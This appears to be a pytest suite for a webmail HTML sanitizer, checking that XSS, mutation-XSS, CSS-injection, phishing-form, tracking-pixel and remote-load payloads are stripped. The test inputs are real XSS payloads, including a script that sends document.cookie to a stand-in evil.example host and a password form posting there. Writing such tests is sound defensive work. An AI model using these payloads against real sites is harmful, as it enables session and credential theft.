"""Hostile HTML comes out inert: each attack class of real webmails, asserted on the exact payload."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.mail.sanitize import FRAME_CSP, RemotePolicy, cid_url_for, html_to_text, sanitize_html


class _Elements(HTMLParser):
    """The tags and attributes a browser-like tokenizer sees in the output."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    def attributes(self) -> list[tuple[str, str, str]]:
        return [(tag, name, value) for tag, attrs in self.elements for name, value in attrs.items()]


def clean(html: str, **kwargs) -> str:
    kwargs.setdefault("cid_url", cid_url_for("/mail/cid/"))
    return sanitize_html(html, **kwargs).html


def assert_no_event_handlers(html: str) -> None:
    assert [a for a in _Elements(html).attributes() if a[1].startswith("on")] == []


def test_script_is_removed_with_its_content():
    html = clean("<p>a</p><script>document.location='https://evil.example/?'+document.cookie</script><p>b</p>")
    assert html == "<p>a</p><p>b</p>"


def test_style_blocks_are_removed_with_their_content():
    html = clean("<style>@import url(https://evil.example/x.css); p{color:red}</style><p>text</p>")
    assert html == "<p>text</p>"


def test_event_handlers_are_removed():
    html = clean(
        '<p onclick="alert(1)" onmouseover="alert(2)">x</p><img src=x onerror="alert(3)"><body onload=alert(4)>'
    )
    assert_no_event_handlers(html)
    assert "alert" not in html


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "jav&#x61;script:alert(1)",
        "javascript&#58;alert(1)",
        " \tjavascript:alert(1)",
        "java\nscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/png;base64,iVBORw0KGgo=",
        "/mail/delete/all",
        "cid:part@example",
    ],
)
def test_dangerous_or_relative_link_targets_lose_their_href(href):
    html = clean(f'<a href="{href}">x</a>')
    assert html == "<a>x</a>"


def test_links_open_outside_the_frame_without_opener_or_referrer():
    html = clean(
        '<a href="https://example.org/" target="_self" rel="opener">x</a><a href="mailto:bob@example.net">m</a>'
    )
    links = [attrs for tag, attrs in _Elements(html).elements if tag == "a"]
    assert links == [
        {"href": "https://example.org/", "target": "_blank", "rel": "noopener noreferrer"},
        {"href": "mailto:bob@example.net", "target": "_blank", "rel": "noopener noreferrer"},
    ]


def test_in_message_anchors_stay_in_the_frame():
    assert clean('<a href="#part2">jump</a>') == '<a href="#part2">jump</a>'


@pytest.mark.parametrize(
    "payload",
    [
        '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    ],
)
def test_svg_and_mathml_are_dropped_and_namespace_confusion_stays_inert(payload):
    html = clean(payload)
    assert not {"svg", "math", "script", "style", "iframe", "foreignobject", "textarea"} & _Elements(html).tags()
    assert_no_event_handlers(html)
    assert "javascript" not in html.lower()
    # Mutation XSS hides in serialise/re-parse differences: the output must be a fixed point.
    assert clean(html) == html


@pytest.mark.parametrize(
    "payload",
    [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<!-- <img src=x onerror=alert(1)> -->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<template><img src=x onerror=alert(1)></template>",
        '<img src="x` `<script>alert(1)</script>"` `>',
        "<img src=\"x\" alt='\"' onerror=alert(1)//'>",
        '<a title="a"onclick="alert(1)">x</a>',
        "<div><style><style/><img src=x onerror=alert(1)></div>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
    ],
)
def test_mutation_xss_classics_come_out_inert(payload):
    html = clean(payload)
    assert_no_event_handlers(html)
    assert "<script" not in html.lower()
    assert [attrs for tag, attrs in _Elements(html).elements if tag == "img" and "src" in attrs] == []
    assert clean(html) == html


def test_css_position_expression_import_and_behaviour_are_removed():
    html = clean(
        '<div style="position:fixed; top:0; left:0; z-index:9999; color:red; width:expression(alert(1));'
        " -moz-binding:url(https://evil.example/x.xml#x); behavior:url(x.htc);"
        ' background:url(javascript:alert(1))">x</div>'
    )
    assert html == '<div style="color: red">x</div>'


def test_css_functions_hidden_by_escapes_or_entities_are_removed():
    assert clean('<p style="width: exp\\ression(alert(1)); color: blue">x</p>') == '<p style="color: blue">x</p>'
    assert clean('<p style="background-image: url&#40;https://evil.example/x.png&#41;">x</p>') == "<p>x</p>"
    assert (
        clean('<p style="color: red; background: u\\rl(https://evil.example/x.png)">x</p>')
        == '<p style="color: red">x</p>'
    )


def test_at_rules_in_style_attributes_are_removed():
    assert (
        clean('<p style="@import url(https://evil.example/x.css); color: green">x</p>')
        == '<p style="color: green">x</p>'
    )


def test_forms_and_controls_are_removed():
    html = clean(
        '<form action="https://evil.example/steal" method="post">Password: <input type="password" name="p">'
        '<button formaction="https://evil.example">Log in</button><select><option>a</option></select></form>'
    )
    assert html == "Password: "


def test_base_meta_refresh_and_link_are_removed():
    html = clean(
        '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">'
        '<link rel="stylesheet" href="https://evil.example/x.css"><p>x</p>'
    )
    assert html == "<p>x</p>"


def test_frames_objects_and_embeds_are_removed():
    html = clean(
        '<iframe src="https://evil.example/"></iframe><object data="x.swf"><param name="a" value="b"></object>'
        '<embed src="x.swf"><frameset><frame src="x"></frameset><p>x</p>'
    )
    assert html == "<p>x</p>"


def test_srcset_is_removed_so_it_cannot_load_remote_images():
    html = clean('<img src="cid:a@b" srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">')
    assert html == '<img src="/mail/cid/a%40b">'


def test_remote_images_are_blocked_by_default_and_reported():
    result = sanitize_html('<img src="https://cdn.example/banner.png" alt="Banner">', cid_url=None)
    assert result.html == '<img alt="Banner" data-blocked="true">'
    assert result.has_remote_content


def test_a_tracking_pixel_counts_as_remote_content():
    result = sanitize_html('<img src="https://t.example/o.gif?u=1" width="1" height="1">', cid_url=None)
    assert result.has_remote_content
    assert "t.example" not in result.html


def test_remote_css_backgrounds_are_blocked_and_reported():
    result = sanitize_html(
        '<table background="https://x.example/bg.png" '
        "style=\"background-image: url('https://x.example/h.jpg'); color: red\">"
        "<tr><td>x</td></tr></table>",
        cid_url=None,
    )
    assert "x.example" not in result.html
    assert result.has_remote_content
    assert 'style="color: red"' in result.html


def test_remote_images_go_through_the_proxy_when_allowed():
    result = sanitize_html(
        '<img src="https://cdn.example/a.png"><p style="background: url(//cdn.example/b.png) no-repeat">x</p>',
        cid_url=None,
        remote=RemotePolicy.PROXY,
        proxy_url=lambda url: "/mail/remote/" + url.replace(":", "_").replace("/", "_"),
    )
    assert '<img src="/mail/remote/https___cdn.example_a.png">' in result.html
    assert 'style="background: url(/mail/remote/https___cdn.example_b.png) no-repeat"' in result.html
    assert result.has_remote_content


def test_cid_images_point_at_the_given_same_origin_url():
    result = sanitize_html(
        '<img src="cid:logo@example.com"><p style="background-image:url(cid:bg@x)">x</p>',
        cid_url=cid_url_for("/m/7/cid/"),
    )
    assert (
        result.html == '<img src="/m/7/cid/logo%40example.com"><p style="background-image: url(/m/7/cid/bg%40x)">x</p>'
    )
    assert not result.has_remote_content


def test_small_raster_data_images_are_kept_and_others_dropped():
    png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    assert clean(f'<img src="{png}">') == f'<img src="{png}">'
    assert clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">') == '<img data-blocked="true">'
    assert clean('<img src="data:text/html,<script>alert(1)</script>">') == '<img data-blocked="true">'
    huge = "data:image/png;base64," + "A" * (600 * 1024)
    assert clean(f'<img src="{huge}">') == '<img data-blocked="true">'


def test_mail_layout_survives():
    html = clean(
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tr><td align="center" valign="top" '
        'style="font-family: Arial, sans-serif; padding: 8px"><font color="#333" face="Georgia">Hi</font>'
        "</td></tr></table>"
    )
    assert html == (
        '<table width="600" cellpadding="4" bgcolor="#eeeeee"><tbody><tr><td align="center" valign="top" '
        'style="font-family: Arial, sans-serif; padding: 8px"><font color="#333" face="Georgia">Hi</font>'
        "</td></tr></tbody></table>"
    )


def test_frame_csp_forbids_scripts_and_remote_loads():
    directives = dict(part.strip().split(" ", 1) for part in FRAME_CSP.split(";"))
    assert directives["default-src"] == "'none'"
    assert directives["img-src"] == "'self' data:"
    assert directives["style-src"] == "'unsafe-inline'"
    assert "script-src" not in directives
    assert directives["form-action"] == directives["base-uri"] == "'none'"


def test_html_to_text_skips_invisible_parts():
    text = html_to_text(
        "<html><head><title>T</title><style>p{}</style></head>"
        "<body><p>One</p><ul><li>a</li><li>b &amp; c</li></ul></body></html>"
    )
    assert text == "One\n\n- a\n- b & c"


def test_deeply_nested_html_is_not_sanitised_but_shown_as_text() -> None:
    from apps.mail.mime import parse_message

    hostile = ("<div>" * 20000) + "payload words" + ("</div>" * 20000)
    raw = (
        "From: a@example.org\r\nSubject: nest\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + hostile
    ).encode()
    rendered = parse_message(raw, cid_url=None)
    assert "payload words" in rendered.html
    assert rendered.html.count("<div") < 5  # shown as text, not as 20,000 nested elements
    assert any("too large or too deeply nested" in e for e in rendered.errors)


def test_ordinary_nesting_is_sanitised_normally() -> None:
    from apps.mail.sanitize import html_too_complex

    assert not html_too_complex("<table>" + "<tr><td><p>cell<br></p></td></tr>" * 5000 + "</table>")
    assert html_too_complex("<b>" * 500)
